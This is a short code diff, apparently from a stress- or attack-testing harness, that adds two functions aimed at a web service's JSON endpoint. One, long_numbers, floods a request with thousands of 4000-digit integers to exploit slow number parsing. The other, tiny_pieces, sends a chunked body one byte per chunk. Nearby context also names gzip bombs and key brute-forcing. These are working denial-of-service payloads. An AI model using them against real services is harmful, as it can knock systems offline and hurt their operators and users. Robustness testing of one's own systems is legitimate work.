@@ -122,6 +122,19 @@ async def gzip_bombs(target: Target, number: int) -> int:
     return await score(target, [f"{target.host}/bomb?{number}.{n}" for n in range(max(1, target.size // 4))])
 
 
+async def long_numbers(target: Target, number: int) -> int:
+    """Let numbers be read, which takes time by the square of their digits."""
+    numbers = ",".join(["9" * 4000] * (64 * target.size))
+    body = f'{{"pairs":[{{"image_url":"data:,","caption":"a","id":[{numbers}]}}]}}'
+    return await send(target, post(body.encode(), PATH, target.key))
+
+
+async def tiny_pieces(target: Target, number: int) -> int:
+    """Send a body in chunks of a byte."""
+    start = head("POST", PATH, target.key, Content_Type="application/json", Transfer_Encoding="chunked")
+    return await send(target, start + b"1\r\n \r\n" * (1000 * target.size) + b"0\r\n\r\n")
+
+
 async def wrong_keys(target: Target, number: int) -> int:
     """Try keys by the hundred."""
     status, connection = 0, await connect(target.address, target.source)
